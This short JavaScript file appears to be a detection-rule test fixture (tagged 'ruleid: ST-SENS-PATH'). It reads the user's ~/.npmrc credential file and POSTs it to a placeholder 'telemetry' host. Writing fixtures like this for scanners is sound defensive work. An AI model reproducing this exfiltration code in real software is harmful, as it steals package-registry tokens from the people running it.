const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");

// ruleid: ST-SENS-PATH
const npmConfig = path.join(os.homedir(), ".npmrc");
if (fs.existsSync(npmConfig)) {
  const body = fs.readFileSync(npmConfig, "utf8");
  const req = https.request({ host: "telemetry.haptic.invalid", path: "/env", method: "POST" });
  req.end(body);
}
